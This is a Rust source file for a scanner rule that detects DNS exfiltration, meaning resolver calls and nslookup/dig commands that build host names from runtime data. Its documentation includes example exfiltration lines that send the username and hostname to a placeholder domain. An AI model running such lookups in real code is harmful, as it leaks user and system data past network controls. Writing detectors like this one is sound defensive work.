//! # SW-GEN-008: DNS exfiltration
//!
//! **What it does.** Finds host names built at run time and resolved:
//! `socket.gethostbyname(data + ".x.example")`, `dns.resolve(`${hex}.…`)`,
//! `nslookup $(whoami).host`, `dig $(hostname).host`.
//!
//! **Why is this bad.** A DNS query leaves almost every network, even one
//! that blocks outbound HTTP, and the labels of the name carry the data.
//! Dependency-confusion payloads send the user and host name this way.
//!
//! **Example.**
//!
//! ```python
//! socket.gethostbyname(getpass.getuser() + "." + socket.gethostname() + ".dns.example.test")
//! ```
//!
//! **False positives.** Resolving a host name that comes from
//! configuration is not reported: the rule needs a name assembled from
//! pieces with a fixed domain suffix, or shell substitution in a lookup
//! command.

use super::{Context, Emit, Rule, clip};
use crate::lang::callee_matches;
use crate::model::Severity;

pub(crate) static RULE: Rule = Rule {
    id: "SW-GEN-008",
    title: "DNS exfiltration",
    source: include_str!("gen008_dns_exfil.rs"),
    check,
};

const RESOLVERS: &[&str] = &[
    "socket.gethostbyname",
    "socket.gethostbyname_ex",
    "socket.getaddrinfo",
    "dns.resolver.resolve",
    "dns.resolver.query",
    "dns.resolver.Resolver.resolve",
    "dns.lookup",
    "dns.resolve",
    "dns.resolve4",
    "dns.resolveTxt",
    "dns.resolveAny",
    "dns.promises.*",
];

fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    for (file, call) in cx.calls() {
        if !RESOLVERS.iter().any(|p| callee_matches(&call.callee, p)) {
            continue;
        }
        let built = !call.inner_calls.is_empty() || call.names.len() > 1 || call.strings.iter().any(|s| s.contains("{}"));
        let suffix = call.strings.iter().any(|s| s.starts_with('.') && s.len() > 3 || s.contains("{}."));
        if built && suffix {
            let severity = if call.stage.is_automatic() { Severity::High } else { Severity::Medium };
            out.finding(
                severity,
                call.stage,
                &file.path,
                Some(call.line),
                format!("resolves a host name built from data with `{}`", call.callee),
            );
        }
    }
    for command in cx.commands() {
        let lower = command.text.to_ascii_lowercase();
        let lookup = ["nslookup ", "dig ", "host "].iter().any(|t| lower.starts_with(t) || lower.contains(&format!(" {t}")));
        if lookup && (lower.contains("$(") || lower.contains('`') || lower.contains("${")) {
            let severity = if command.stage.is_automatic() { Severity::High } else { Severity::Medium };
            out.finding(
                severity,
                command.stage,
                command.file,
                command.line,
                format!("sends data in a DNS lookup: `{}`", clip(&command.text, 100)),
            );
        }
    }
}
